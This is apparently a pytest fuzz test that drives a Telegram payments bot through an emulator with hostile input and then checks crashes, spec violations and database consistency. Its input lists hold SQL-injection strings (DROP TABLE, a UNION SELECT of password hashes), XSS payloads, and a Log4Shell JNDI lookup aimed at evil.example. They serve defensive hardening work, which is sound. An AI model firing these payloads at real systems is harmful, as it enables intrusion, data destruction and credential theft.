"""Hostile input: a hypothesis fuzzer drives the REAL bot through the emulator.

Each example is a list of actions by one fresh Telegram user: random text, unicode, control
characters, huge numbers, SQL and markup fragments, commands with junk, logins as sample
members (so the fuzzer reaches renewals and payments), presses of real buttons, forged
callback data on real and made-up message ids, edited messages, photos, stickers, documents,
payments (also with a tampered amount), and updates from groups, supergroups and channels.

After every example:
- the bot still answers: a fresh user's /help gets the help text (the polling loop is alive);
- no reply was "something went wrong" (no handler crashed on the input);
- the emulator saw no call the Bot API specification rejects;
- the database is consistent (tests/hardening/consistency.py).

Why a thread: @given cannot decorate an async test under pytest-asyncio, and hypothesis
refuses function-scoped fixtures inside @given. So the test is sync; the emulator, the bot and
the database live on ONE event loop in a background thread for the whole run (the state
builds up across examples, which is more hostile than a fresh bot each time), and each example
submits its actions to that loop with run_coroutine_threadsafe. Hypothesis keeps everything
it is good at: derandomized generation, shrinking, and the falsifying example in the report.
"""

from __future__ import annotations

import asyncio
import contextlib
import itertools
import threading
import time
from collections import Counter, defaultdict
from collections.abc import Coroutine
from dataclasses import dataclass, field
from datetime import timedelta
from typing import Any, TypeVar

import pytest
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st
from sqlalchemy import text

from bot.errors import PARKED
from bot.sample_members import seed
from domain.clock import FixedClock
from storage.database import Database
from telegram_emulator import TelegramEmulator, load_spec
from tests.chat.conftest import ANN, BOB, CARA, DAN, EVE, TODAY, ChatBot, cheap_rules
from tests.hardening.consistency import broken_rows, counts

T = TypeVar("T")
EXAMPLES = 60
STEP_TIMEOUT = 30.0  # seconds for the bot to settle after one action (argon2, 2 cores)
REPLY_WAIT = 1.0  # seconds to wait for a reply the fuzzer hopes for (none is fine too)

# ---- what a hostile member types -------------------------------------------------------

SQL = [
    "'; DROP TABLE members; --",
    "LEE100001' OR '1'='1",
    '" OR ""="',
    "1; SELECT * FROM telegram_sessions",
    "R000001' UNION SELECT password_hash FROM members --",
    "%' --",
]
MARKUP = [
    "<b>unclosed",
    "</pre><script>alert(1)</script>",
    "<a href='javascript:alert(1)'>x</a>",
    "&amp;&lt;&gt;&#0;",
    "*_`[link](http://evil.example)`_*",
    "<",
    "&",
    "{{7*7}}",
    "${jndi:ldap://evil.example/a}",
    "\\",
]
COMMANDS = [
    "start",
    "login",
    "certifications",
    "cecs",
    "addcec",
    "mycecs",
    "renew",
    "audit",
    "invoices",
    "password",
    "logout",
    "help",
    "cancel",
]
NUMBER_WORDS = [
    "1e309",
    "-0",
    "NaN",
    "Infinity",
    "-Infinity",
    "999.5",
    "1000",
    "0.25",
    "12,5",
    "١٢",
    "１２",
    "4" * 400,
    "0x2d",
    "1_000",
    "",
    " ",
]
CALLBACKS = [
    "menu:certifications",
    "menu:cecs",
    "menu:renew",
    "menu:invoices",
    "login",
    "pw:password",
    "pw:username",
    "rc:go",
    "rn:contact_ok",
    "rn:email",
    "rn:phone",
    "rn:cpr_yes",
    "rn:cpr_no",
    "rn:cpr_new",
    "rn:ack",
    "cart",
    "cec:add",
    "ac:org:acsm",
    "ac:org:other",
    "ac:skip",
    "ac:with:1",
    "ac:drop:1",
    "mc:del:1",
    "rn:acsm_use",
    "rn:other_use",
    "ad:open",
    "ad:log:1:1",
    "ad:submit:1",
    "ad:rm:1:1",
    "ad:sure:1:30",
]

numbers = st.one_of(
    st.integers(-(10**40), 10**40).map(str),
    st.decimals(allow_nan=True, allow_infinity=True).map(str),
    st.floats().map(repr),
    st.sampled_from(NUMBER_WORDS),
)
control = st.text(st.characters(categories=["Cc", "Cf", "Zl", "Zp", "Co", "Mn"]), max_size=30)
huge = st.tuples(st.sampled_from("A9 é😀\u202e"), st.integers(1000, 4096)).map(
    lambda t: t[0] * t[1]
)
junk_command = st.tuples(
    st.sampled_from(COMMANDS),
    st.sampled_from(["", " ", "@emulated_test_bot", "@other_bot", "\x00"]),
).flatmap(lambda t: st.text(max_size=40).map(lambda junk: f"/{t[0]}{t[1]}{junk}"))
texts = st.one_of(
    st.text(max_size=200),
    numbers,
    control,
    huge,
    junk_command,
    st.sampled_from(SQL + MARKUP),
    st.sampled_from([ANN[0], BOB[0], ANN[0].lower(), "how many CECs do I still need?"]),
).filter(lambda s: len(s.strip()) > 0 and len(s) <= 4096)
callback_data = st.one_of(
    st.sampled_from(CALLBACKS),
    st.tuples(
        st.sampled_from(["renew:", "rc:", "it:R", "rcpt:R"]), st.integers(-(10**12), 10**12)
    ).map(lambda t: f"{t[0]}{t[1]}"),
    st.text(max_size=64).filter(lambda s: 0 < len(s.encode()) <= 64),
)
members = st.sampled_from([ANN, ANN, BOB, CARA, DAN, EVE])
plausible_cecs = st.sampled_from(["30", "15", "45", "0", "14.5", "999", "60", "15.0"])
cec_amounts = st.one_of(plausible_cecs, plausible_cecs, plausible_cecs, numbers)

press_real = st.tuples(st.just("press_real"), st.integers(0, 50))
actions = st.one_of(
    st.tuples(st.just("text"), texts),
    st.tuples(st.just("text"), texts),
    st.tuples(st.just("login"), members),
    st.tuples(st.just("renew_path"), cec_amounts, cec_amounts),
    st.tuples(st.just("checkout"), st.booleans()),
    press_real,
    press_real,
    press_real,
    st.tuples(st.just("press_data"), st.integers(-3, 50), callback_data),
    st.tuples(st.just("edit"), st.integers(0, 50), texts),
    st.tuples(st.just("photo"), st.one_of(st.none(), texts)),
    st.tuples(st.just("sticker"), st.sampled_from(["👍", "🔥", "x"])),
    st.tuples(st.just("document"), st.binary(max_size=2000)),
    st.tuples(st.just("pay"), st.one_of(st.none(), st.integers(-(10**6), 10**9))),
    st.tuples(st.sampled_from(["group", "supergroup", "channel", "edited_group"]), texts),
    st.tuples(st.just("inline_query"), texts),
)


# ---- one event loop in a thread, for the whole run ------------------------------------


class LoopThread:
    def __init__(self) -> None:
        self.loop = asyncio.new_event_loop()
        self.thread = threading.Thread(target=self.loop.run_forever, daemon=True)
        self.thread.start()

    def run(self, coro: Coroutine[Any, Any, T], timeout: float = 300) -> T:
        return asyncio.run_coroutine_threadsafe(coro, self.loop).result(timeout)

    def close(self) -> None:
        self.loop.call_soon_threadsafe(self.loop.stop)
        self.thread.join(10)
        self.loop.close()


@dataclass
class Rig:
    emulator: TelegramEmulator
    database: Database
    bot: ChatBot
    clock: FixedClock
    tried: Counter[str] = field(default_factory=Counter)
    seconds: defaultdict[str, float] = field(default_factory=lambda: defaultdict(float))
    group_message_ids: itertools.count[int] = field(default_factory=lambda: itertools.count(1))
    charges: list[str] = field(default_factory=list)  # every payment the emulator completed


async def start_rig(database_url: str) -> Rig:
    emulator = TelegramEmulator(spec=load_spec(required=True))
    await emulator.start()
    database = Database(database_url)
    async with database.unit_of_work() as uow:
        await seed(uow, 2026)
    clock = FixedClock(TODAY)
    rules = cheap_rules(clock)
    chat_bot = ChatBot(emulator, database, rules)
    await chat_bot.start()
    return Rig(emulator, database, chat_bot, clock)


async def stop_rig(rig: Rig) -> None:
    await rig.bot.stop()
    await rig.emulator.stop()
    await rig.database.dispose()


# ---- the actions ------------------------------------------------------------------------


async def settle(rig: Rig) -> None:
    await rig.emulator.settle(timeout=STEP_TIMEOUT, quiet=0.1)


async def do(rig: Rig, user: Any, action: tuple[Any, ...]) -> None:
    rig.tried[action[0]] += 1
    started = time.monotonic()
    await act(rig, user, action)
    rig.seconds[action[0]] += round(time.monotonic() - started, 1)


async def act(rig: Rig, user: Any, action: tuple[Any, ...]) -> None:
    kind = action[0]
    if kind == "text":
        await answered(rig, user, user.send(action[1]))
    elif kind == "login":
        for text in ("/login", action[1][0], action[1][1]):
            await answered(rig, user, user.send(text))
    elif kind in ("renew_path", "checkout"):
        await walk(rig, user, action)
    elif kind == "press_real":
        buttons = [
            (m.message_id, b["callback_data"])
            for m in user.messages
            if not m.deleted
            for row in m.keyboard
            for b in row
            if "callback_data" in b
        ]
        if buttons:
            message_id, data = buttons[action[1] % len(buttons)]
            await user.press_data(message_id, data)
    elif kind == "press_data":
        await user.press_data(pick_message_id(user, action[1]), action[2])
    elif kind == "edit":
        own = [m for m in user.sent if not m.deleted and "text" in m.raw]
        if own:
            await user.edit(own[action[1] % len(own)].message_id, action[2])
    else:
        await do_media_or_foreign(rig, user, action)
    await settle(rig)


async def walk(rig: Rig, user: Any, action: tuple[Any, ...]) -> None:
    """The happy path's moves (with fuzzed CEC numbers), so examples reach invoices and pay."""
    if action[0] == "renew_path":
        moves = [("send", "/renew"), ("press", "rn:contact_ok"), ("press", "rn:cpr_yes")]
        moves += [("send", action[1]), ("send", action[2]), ("press", "rn:ack")]
    else:
        toggles = [("press", "it:*")] * (2 if action[1] else 1)
        moves = [("send", "/invoices"), *toggles, ("press", "cart")]
    for how, what in moves:
        if how == "send":
            await answered(rig, user, user.send(what))
        elif await press_named(user, what, dry_run=True):
            await answered(rig, user, press_named(user, what))


async def answered(rig: Rig, user: Any, move: Coroutine[Any, Any, Any]) -> None:
    """Make the move and wait for the chat to change (a reply or an edit), then settle.

    settle() alone may return while argon2 works silently; a move that gets no answer within
    REPLY_WAIT seconds is fine too (the fuzzer does not require one)."""

    def snapshot() -> tuple[int, int]:
        return len(user.messages), sum(m.edits for m in user.messages)

    before = snapshot()
    await move
    with contextlib.suppress(TimeoutError):
        await rig.emulator.wait_until(lambda: snapshot() != before, timeout=REPLY_WAIT)
    await settle(rig)


async def press_named(user: Any, data: str, *, dry_run: bool = False) -> bool:
    """Press the newest button with this callback data ("it:*": any invoice toggle)."""
    for message in reversed(user.messages):
        for row in [] if message.deleted else message.keyboard:
            for button in row:
                found = str(button.get("callback_data", ""))
                if found == data or (data == "it:*" and found.startswith("it:")):
                    if not dry_run:
                        await user.press_data(message.message_id, found)
                    return True
    return False


async def do_media_or_foreign(rig: Rig, user: Any, action: tuple[Any, ...]) -> None:
    kind = action[0]
    if kind == "photo":
        await user.send_photo(caption=action[1])
    elif kind == "sticker":
        await user.send_sticker(action[1])
    elif kind == "document":
        await user.send_document("fuzz.bin", action[1] or b"\x00")
    elif kind == "pay":
        invoices = [m for m in user.messages if m.invoice is not None]
        if invoices:
            paid = await user.pay(invoices[-1], total_amount=action[1], timeout=STEP_TIMEOUT)
            if paid.approved and paid.successful_payment is not None:
                rig.charges.append(paid.successful_payment["telegram_payment_charge_id"])
    elif kind == "inline_query":
        rig.emulator.inject(
            {"inline_query": {"id": "1", "from": user.raw, "query": action[1][:256], "offset": ""}}
        )
    else:
        rig.emulator.inject(foreign_update(rig, user, kind, action[1]))


def pick_message_id(user: Any, choice: int) -> int:
    """A real message id of this chat, or a made-up one (negative choices)."""
    if choice < 0 or not user.messages:
        return [0, 10**9, 2**31 - 1][choice % 3]
    return int(user.messages[choice % len(user.messages)].message_id)


def foreign_update(rig: Rig, user: Any, kind: str, text: str) -> dict[str, Any]:
    """A message from a group, supergroup or channel the bot was added to."""
    chat_type = {"edited_group": "group"}.get(kind, kind)
    chat_id = {"group": -4242, "supergroup": -1001234567890, "channel": -1009876543210}[chat_type]
    body: dict[str, Any] = {
        "message_id": next(rig.group_message_ids),
        "date": int(time.time()),
        "chat": {"id": chat_id, "type": chat_type, "title": "Fuzz " + chat_type},
        "text": text,
    }
    if chat_type == "channel":
        body["sender_chat"] = body["chat"]
        return {"channel_post": body}
    body["from"] = user.raw
    if kind == "edited_group":
        body["edit_date"] = int(time.time())
        return {"edited_message": body}
    return {"message": body}


# ---- the properties ---------------------------------------------------------------------


async def run_example(rig: Rig, member: tuple[str, str] | None, steps: list[Any]) -> None:
    # Fuzzed logins lock sample accounts for 15 minutes (as they should): let that pass.
    rig.clock.advance(timedelta(minutes=16))
    user = rig.emulator.new_user("Fuzz", "Er")
    for action in ([("login", member)] if member else []) + steps:
        await do(rig, user, action)
    probe = rig.emulator.new_user("Probe")
    await probe.send("/help")
    answer = await probe.next_message(timeout=STEP_TIMEOUT)
    assert "/renew" in answer.text, f"the bot stopped answering: {answer.text!r}"
    crashed = [m.text for m in user.messages if m.text == PARKED]
    assert not crashed, "a handler kept failing on this input (the update was parked)"
    await rig.emulator.settle(timeout=STEP_TIMEOUT, quiet=0.2)
    recorded = await payment_rows(rig.database)
    assert recorded == sorted(rig.charges), "a completed payment is missing or doubled"
    assert not rig.emulator.violations, f"calls the Bot API spec rejects: {rig.emulator.violations}"
    broken = await broken_rows(rig.database)
    assert not broken, f"inconsistent database: {broken}"


async def payment_rows(database: Database) -> list[str]:
    """Every payment row's charge id (each payment the emulator completed must have one)."""
    async with database.connect() as connection:
        rows = await connection.execute(
            text("SELECT charge_id FROM payments WHERE charge_id NOT LIKE 'sample-%'")
        )
        return sorted(row[0] for row in rows)


@pytest.mark.slow
def test_hostile_input_never_crashes_breaks_the_spec_or_the_database(database_url: str) -> None:
    thread = LoopThread()
    rig = thread.run(start_rig(database_url))
    try:

        @settings(
            max_examples=EXAMPLES,
            deadline=None,
            derandomize=True,
            database=None,
            suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large],
        )
        # Explicit examples first, so every run reaches invoices and payments; the generated
        # ones then hit a database where those exist.
        @example(ANN, [("renew_path", "30", "15"), ("checkout", False), ("pay", 1), ("pay", -4500)])
        @example(ANN, [("checkout", False), ("pay", None), ("pay", None), ("press_real", 0)])
        @example(BOB, [("renew_path", "60", "0"), ("press_real", 1), ("renew_path", "60", "0")])
        @example(EVE, [("renew_path", "45", "0"), ("checkout", True), ("text", "/cancel")])
        @given(st.one_of(st.none(), members), st.lists(actions, min_size=1, max_size=8))
        def explore(member: tuple[str, str] | None, steps: list[tuple[Any, ...]]) -> None:
            thread.run(run_example(rig, member, steps))

        explore()
        reached = thread.run(counts(rig.database))
        print(f"\nfuzz: {EXAMPLES} examples, actions {dict(rig.tried)}, reached {reached}")
        print(f"seconds per kind: {dict(rig.seconds)}")
        assert sum(rig.tried.values()) >= EXAMPLES
    finally:
        thread.run(stop_rig(rig))
        thread.close()


async def test_the_consistency_checks_catch_broken_rows(database: Database) -> None:
    """The invariants above can fail: a half-made invoice and negative CECs are reported."""
    async with database.unit_of_work() as uow:
        await seed(uow, 2026)
    async with database.begin() as connection:
        await connection.execute(
            text(
                "INSERT INTO invoices (number, acsm_id, issued_on, description, amount_cents,"
                " balance_cents, late_fee_cents, status, acsm_half_cecs, other_half_cecs)"
                " VALUES ('R999999', '100001', '2026-11-28', 'x', 4500, 4500, 0, 'open', -2, 0)"
            )
        )
    broken = await broken_rows(database)
    assert broken == {
        "invoice without lines": ["R999999"],
        "CECs out of range on an invoice": ["R999999"],
    }
